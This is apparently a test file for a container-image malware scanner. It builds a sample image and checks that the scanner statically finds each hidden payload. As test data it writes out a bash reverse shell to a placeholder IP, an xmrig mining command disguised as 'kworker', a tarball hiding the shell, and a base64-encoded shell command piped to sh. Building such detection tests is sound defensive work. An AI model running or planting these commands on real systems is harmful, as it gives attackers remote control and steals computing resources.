/**
 * Static unpacking through the whole scan (issue 16, part 1): an image whose miner is packed by the real gzexe, whose
 * reverse shell sits in a tar.gz made by the real tar, and whose CMD decodes a base64 payload into a shell. Each is
 * found statically, on the file (or the config) that holds it, with its decode chain, and the verdict cites it.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { writeOciArchive } from '../support/image-builder.js';
import { scanReference } from '../../src/scan/scan.js';
import type { Report } from '../../src/model/index.js';

const REVERSE_SHELL = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1';
const MINER = 'xmrig -o stratum+tcp://pool.example.test:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x';

let work: string;
let report: Report;

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'detonate-unpack-image-'));
  const kworker = join(work, 'kworker');
  writeFileSync(kworker, `#!/bin/sh\n${MINER}\n`);
  chmodSync(kworker, 0o755);
  execFileSync('gzexe', [kworker], { stdio: 'ignore' });
  writeFileSync(join(work, 'init.sh'), `#!/bin/sh\n${REVERSE_SHELL}\n`, { mode: 0o755 });
  execFileSync('tar', ['-czf', join(work, 'cache.tgz'), '-C', work, 'init.sh']);
  const encoded = Buffer.from(`${REVERSE_SHELL}\n`).toString('base64');
  await writeOciArchive(join(work, 'image.tar'), {
    config: { Cmd: ['/bin/sh', '-c', `echo ${encoded} | base64 -d | sh`] },
    layers: [{
      entries: [
        { name: 'usr/bin/kworker', content: readFileSync(kworker), mode: 0o755 },
        { name: 'var/tmp/cache.tgz', content: readFileSync(join(work, 'cache.tgz')) },
        { name: 'etc/motd', content: 'welcome\n' },
      ],
    }],
  });
  [report] = (await scanReference(`oci-archive:${join(work, 'image.tar')}`, { cacheDir: join(work, 'cache') })) as [Report];
}, 60_000);

afterAll(() => rmSync(work, { recursive: true, force: true }));

const chainOf = (r: Report, pred: (f: Report['findings'][number]) => boolean) =>
  r.findings.filter((f) => f.payload && pred(f)).map((f) => [f.category, f.path ?? null, f.payload!.steps.map((s) => s.method).join(' > ')]);

describe('an image hiding its payloads', () => {
  it('finds the gzexe-packed miner on usr/bin/kworker, through the self-extracting step and gzip', () => {
    expect(chainOf(report, (f) => f.category === 'cryptominer')).toContainEqual(['cryptominer', 'usr/bin/kworker', 'self-extracting > gzip']);
  });

  it('finds the reverse shell in the tar.gz on var/tmp/cache.tgz, naming the member', () => {
    const hit = report.findings.find((f) => f.category === 'backdoor' && f.path === 'var/tmp/cache.tgz');
    expect(hit?.payload?.steps.map((s) => [s.method, s.name ?? null])).toEqual([['gzip', null], ['tar', 'init.sh']]);
    expect(hit?.layer).toBe(0);
  });

  it('finds the reverse shell the CMD decodes, on the image configuration, fed to sh', () => {
    const hit = report.findings.find((f) => f.category === 'backdoor' && f.path === undefined && f.payload !== undefined);
    expect(hit).toBeDefined();
    expect(hit!.evidence).toMatchObject({ config: 'config.Entrypoint/Cmd' });
    expect(hit!.payload!.steps).toEqual([{ method: 'base64', offset: 'echo '.length + '/bin/sh -c '.length, length: expect.any(Number), feeds: 'sh' }]);
  });

  it('judges the image malicious, citing the unpacked payloads', () => {
    expect(report.verdict.malicious).toBe(true);
    expect(report.verdict.categories).toEqual(expect.arrayContaining(['cryptominer', 'backdoor']));
    const cited = JSON.stringify(report.verdict.evidence);
    expect(cited).toContain('usr/bin/kworker');
  });
});
